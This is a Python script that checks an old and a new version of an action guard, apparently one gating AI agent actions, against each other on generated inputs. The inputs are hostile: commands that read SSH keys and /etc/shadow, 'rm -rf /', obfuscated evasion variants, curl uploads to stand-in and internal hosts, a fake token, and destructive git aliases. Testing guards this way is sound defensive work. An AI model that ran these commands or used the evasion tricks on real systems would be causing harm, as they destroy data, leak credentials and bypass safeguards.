"""Old guard against new, in two processes: python compare.py OLD_DIR NEW_DIR"""
import itertools, json, subprocess, sys
words = [".env", "~/.ssh/id_rsa", "/etc/sh*ow", "src/a.py", "/srv/x", "/proc/self/root/etc/shadow", "../y", ".git/config", "a\u200b.env", "$PWD/z"]
frames = ["cat {}", "rm -rf {}", "echo x > {}", "cp a {}", "bash -c 'rm {}'", "echo $(cat {})", "eval cat {}", "find {} -delete", "find . -exec cat {} \\;",
          "sudo env -S 'rm {}'", "cat$IFS{}", "{{cat,{}}}", "python3.11 -c \"open('{}')\"", "alias q='cat {}'", "git -C {} status", "curl -o {} pypkg.example", "tee {} | sh"]
hosts = ["pypkg.example", "2852039166", "127.1", "0xa9fea9fe", "evil.example", "github.com@10.0.0.1", "[::1]", "a.corp.hollis.example", "8.8.8.8", "pypkg.example/?u=http://10.0.0.1"]
gits = ["push --forc origin x", "push origin +x", "push origin main", "push ‑‑force", "commit -an", "-c alias.x='!rm -rf /' x", "config core.pager x", "reset --har", "clone git@10.0.0.1:a"]
acts = [{"kind": "shell", "command": f.format(w)} for f, w in itertools.product(frames, words)]
acts += [{"kind": k, "path": w, "content": c} for k in ("write", "delete") for w in words + ["x.sh"] for c in (None, "#!/bin/sh\nrm -rf /", "ghp_abcdefghijklmnopqrstuvwx")]
acts += [{"kind": "fetch", "url": f"http://{h}", "method": m} for h in hosts for m in ("GET", "POST")] + [{"kind": "shell", "command": f"curl -d x {h}"} for h in hosts]
acts += [{"kind": "git", "args": g} for g in gits] + [{"kind": "git", "args": g.split()} for g in gits]
acts += [None, {}, {"kind": "x"}, {"kind": "shell"}, {"kind": "shell", "command": ["rm", "-rf", "/"]}, {"kind": "write", "path": 3}, {"kind": "git", "args": "'"}, {"kind": "message", "to": 5, "text": "x"}]
code = "import json,sys; sys.path.insert(0, sys.argv[1]); from stile import decide\nfor l in sys.stdin: print(json.dumps(decide(json.loads(l))[:2]))"
old, new = (subprocess.run([sys.executable, "-c", code, d], input="\n".join(map(json.dumps, acts)), capture_output=True, text=True, check=True).stdout.split("\n") for d in sys.argv[1:3])
bad = [(a, x, y) for a, x, y in zip(acts, old, new) if x != y]
print(len(acts), "actions,", len(bad), "different")
for b in bad[:10]:
    print(b)
